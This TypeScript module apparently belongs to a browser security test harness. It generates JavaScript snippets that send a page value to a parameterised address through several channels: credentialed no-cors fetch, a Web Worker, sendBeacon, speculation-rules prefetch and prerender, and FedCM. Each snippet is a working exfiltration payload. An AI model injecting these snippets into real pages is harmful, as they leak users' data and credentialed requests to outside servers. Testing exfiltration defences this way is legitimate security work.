/**
 * Ways by which a page can send a value to an address: scripts without single quotes, by name. `value` is an expression of
 * the page. `end()` tells that the way has been tried; not all of them know when they are done.
 */
type Channel = (address: string, value: string) => string;

const rules =
  (kind: string): Channel =>
  (address, value) =>
    `const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ ${kind}: [{ source: "list", eagerness: "immediate", urls: ["${address}?" + encodeURIComponent(${value})] }] }); document.head.append(rules); end()`;

export const channels = {
  "a script in base 64": (address, value) =>
    `fetch("${address}?q=" + btoa("x:" + ${value}), { mode: "no-cors", credentials: "include" }).then(end, end)`,
  "a script in a file": (address, value) =>
    `fetch("${address}", { method: "POST", credentials: "include", mode: "no-cors", body: new Blob(["x".repeat(3e6), ${value}]) }).then(end, end)`,
  "a worker": (address, value) =>
    `new Worker(window.URL.createObjectURL(new Blob([\`fetch("${address}?\${encodeURIComponent(${value})}", { mode: "no-cors", credentials: "include" }).finally(() => { postMessage(1); close(); })\`]))).onmessage = end`,
  "a beacon": (address, value) => `navigator.sendBeacon("${address}", ${value}); end()`,
  "prefetching by speculation rules": rules("prefetch"),
  prerendering: rules("prerender"),
  FedCM: (address, value) =>
    `const config = "${address}?" + encodeURIComponent(${value}); Promise.resolve(navigator.credentials.get({ identity: { providers: [{ configURL: config, clientId: "1" }] } })).catch(() => {}).then(end)`,
} as const satisfies Record<string, Channel>;
